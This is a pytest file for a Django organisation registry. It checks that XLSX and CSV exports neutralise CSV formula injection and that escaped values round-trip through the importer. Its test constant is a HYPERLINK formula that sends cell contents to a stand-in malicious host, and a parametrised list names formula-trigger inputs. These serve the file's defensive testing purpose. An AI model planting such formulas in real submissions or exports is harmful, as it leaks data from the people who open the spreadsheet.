"""Registry exports never hand a spreadsheet a formula (CSV injection, OWASP).

The probe: a public "Zgłoś organizację" entry named ``=HYPERLINK(...)``, accepted by a
moderator, became a live formula in the XLSX export.
"""

from __future__ import annotations

import csv
import io

import pytest
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from cms.forms.models import PublicFormPage, Submission
from registry.exporters import COLUMNS, export_csv, export_queryset, export_xlsx
from registry.importing import import_organisations, rejected_report_csv
from registry.models import Organisation
from tests.cms_forms.conftest import logged_in, of_tenant, started

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://zlosliwa.example.com/?d="&A1;"Kliknij, aby zobaczyć")'
CITY = "@SUMA(1+1)"
STREET = "-2+3 ul. Focha"
DESCRIPTION = "+48 34 370 74 80\tbiuro"


def _accepted_from_the_public_form(client, tenant) -> Organisation:
    with tenant_context(tenant):
        page = PublicFormPage.objects.live().get(handler_key="organisation")
    page = of_tenant(page, tenant)
    answer = {
        "name": HYPERLINK,
        "legal_form": "fundacja",
        "krs": "",
        "nip": "",
        "regon": "",
        "street": STREET,
        "postal_code": "42-217",
        "city": CITY,
        "email": "biuro@razem.example.pl",
        "website": "",
        "description": DESCRIPTION,
        "areas": ["kultura-i-sztuka"],
        "consent": "on",
        "homepage": "",
        "started": started(page),
    }
    response = client.post("/zglos-organizacje/", answer)
    assert response.status_code == 302, response.context["form"].errors
    with tenant_context(tenant):
        submission = Submission.objects.get()
    admin = logged_in(tenant.slug, f"admin@{tenant.slug}.example.pl")
    response = admin.post(f"/admin/zgloszenia/inspect/{submission.pk}/", {"action": "accept"})
    assert response.status_code == 302
    with tenant_context(tenant):
        return Organisation.objects.get()


def test_public_entry_is_inert_text_in_the_xlsx_export(client_a, tenant_a):
    org = _accepted_from_the_public_form(client_a, tenant_a)
    assert (org.name, org.city, org.street) == (HYPERLINK, CITY, STREET)
    admin = logged_in("czestochowa", "admin@czestochowa.example.pl")

    response = admin.get("/admin/registry/export/", {"format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active  # formulas kept, not evaluated
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    for column, value in [
        ("Nazwa", HYPERLINK),
        ("Miejscowość", CITY),
        ("Adres", STREET),
        ("Opis", DESCRIPTION),
    ]:
        assert cells[column].data_type == "s", column
        assert cells[column].value == value
    assert [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"] == []


def test_public_entry_is_escaped_in_the_csv_export_and_imports_back_unchanged(
    client_a, tenant_a, tenant_b
):
    _accepted_from_the_public_form(client_a, tenant_a)
    admin = logged_in("czestochowa", "admin@czestochowa.example.pl")

    response = admin.get("/admin/registry/export/", {"format": "csv"})

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Nazwa"] == "'" + HYPERLINK
    assert cells["Miejscowość"] == "'" + CITY
    assert cells["Adres"] == "'" + STREET
    assert cells["Opis"] == "'" + DESCRIPTION
    assert cells["Forma prawna"] == "fundacja"
    # The apostrophe is the file's mark only: the importer takes it off again.
    with tenant_context(tenant_b):
        result = import_organisations(io.BytesIO(response.content), filename="e.csv")
        copy = Organisation.objects.get()
    assert result.summary_line() == "total=1 created=1 updated=0 unchanged=0 rejected=0"
    assert (copy.name, copy.city, copy.street, copy.description) == (
        HYPERLINK,
        CITY,
        STREET,
        DESCRIPTION,
    )


def test_wagtail_list_export_csv_is_escaped(tenant_a, make_org):
    make_org(tenant_a, name=HYPERLINK, legal_form="fundacja", city=CITY)
    admin = logged_in("czestochowa", "admin@czestochowa.example.pl")

    response = admin.get("/admin/registry/organisations/", {"export": "csv"})

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][5] == "'" + CITY


def test_rejected_rows_report_is_escaped():
    report = rejected_report_csv(
        [{"row": 2, "reason": "Brak formy prawnej.", "values": {"name": HYPERLINK}}]
    )

    rows = list(csv.reader(io.StringIO(report.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["wiersz", "powód", "name"], ["2", "Brak formy prawnej.", "'" + HYPERLINK]]


def test_xlsx_export_drops_characters_xlsx_cannot_hold(tenant_a, make_org):
    org = make_org(tenant_a, name="Fundacja Pionowy Tabulator", legal_form="fundacja")
    with tenant_context(tenant_a):
        # Data from before today's validation rules: written past the services on purpose.
        Organisation.objects.filter(pk=org.pk).update(description="Opis\x0bz tabulatorem\x1f")
        data = export_xlsx(export_queryset())

    sheet = load_workbook(io.BytesIO(data)).active
    description = [h for h, _ in COLUMNS].index("Opis") + 1
    assert sheet.cell(row=2, column=description).value == "Opisz tabulatorem"
    assert [h.value for h in next(sheet.iter_rows(max_row=1))] == [h for h, _ in COLUMNS]


def test_numbers_stay_numbers(tenant_a, make_org):
    make_org(tenant_a, name="Spółdzielnia Socjalna Razem", legal_form="fundacja", employees=12)

    with tenant_context(tenant_a):
        data = export_xlsx(export_queryset())
        text = export_csv(export_queryset())

    sheet = load_workbook(io.BytesIO(data)).active
    employees = [h for h, _ in COLUMNS].index("Zatrudnienie") + 1
    cell = sheet.cell(row=2, column=employees)
    assert (cell.value, cell.data_type) == (12, "n")
    assert ";12;" in text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+48 34 370 74 80", "'+48 34 370 74 80"),
        ("-5", "'-5"),
        ("@SUMA(A1)", "'@SUMA(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe of the value itself survives the round trip
        ("''", "'''"),
        ("'Nasz Dom'", "'Nasz Dom'"),
        ("Fundacja = Dobro", "Fundacja = Dobro"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_csv_cell_escapes_formula_triggers_and_round_trips(value, written):
    from registry.spreadsheets import csv_cell, csv_cell_read

    assert csv_cell(value) == written
    assert csv_cell_read(written) == value


def test_csv_cell_leaves_non_text_alone():
    from registry.spreadsheets import csv_cell

    assert csv_cell(12) == 12
    assert csv_cell(None) is None
